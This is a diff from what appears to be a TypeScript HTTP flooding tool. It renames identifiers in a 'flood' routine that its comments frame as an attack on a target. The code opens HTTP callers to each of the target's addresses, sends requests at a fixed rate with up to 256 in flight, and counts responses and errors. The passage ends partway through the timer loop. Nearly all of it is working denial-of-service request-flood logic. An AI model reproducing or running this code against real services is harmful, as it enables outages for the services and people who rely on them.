@@ -1,12 +1,12 @@
-import { type Counts, addOne } from "./counts.ts";
-import { type Call, openHttpCaller } from "./http-caller.ts";
+import { type Counts, increment } from "./counts.ts";
+import { type Call, createHttpCaller } from "./http-caller.ts";
 import type { Target } from "./target.ts";
 
 /** An attack under way: against what, what it counts, and when it ends. */
 export type AttackRun = { target: Target; counts: Counts; signal: AbortSignal };
 
 type FloodOptions = {
-  callOf: (n: number) => Call;
+  createCall: (n: number) => Call;
   /** Calls per second from all addresses together. */
   perSecond?: number;
   /** Calls that wait for an answer at most. */
@@ -21,19 +21,19 @@ const inFlightMaxDefault = 256;
 /** Sends calls at a steady rate and reads each answer. */
 export const flood = (
   { counts, signal, target }: AttackRun,
-  { callOf, perSecond = perSecondDefault, inFlightMax = inFlightMaxDefault }: FloodOptions,
+  { createCall, perSecond = perSecondDefault, inFlightMax = inFlightMaxDefault }: FloodOptions,
 ): void => {
-  const callers = target.addresses.map((address) => openHttpCaller(target.ports, address));
+  const callers = target.addresses.map((address) => createHttpCaller(target.ports, address));
   const startedAtMs = performance.now();
   let [sentCount, inFlight] = [0, 0];
   const send = async (n: number): Promise<void> => {
     inFlight += 1;
-    const outcome = await callers[n % callers.length]?.send(callOf(n));
+    const result = await callers[n % callers.length]?.send(createCall(n));
     inFlight -= 1;
-    if (signal.aborted || outcome === undefined) return;
-    counts.bytesRead += outcome.text.length;
-    if (outcome.status === undefined) addOne(counts.errors, outcome.error ?? "unknown");
-    else addOne(counts.answers, outcome.status);
+    if (signal.aborted || result === undefined) return;
+    counts.bytesRead += result.text.length;
+    if (result.status === undefined) increment(counts.errors, result.error ?? "unknown");
+    else increment(counts.responses, result.status);
   };
   const timer = setInterval(() => {
     const dueCount = ((performance.now() - startedAtMs) / 1_000) * perSecond;
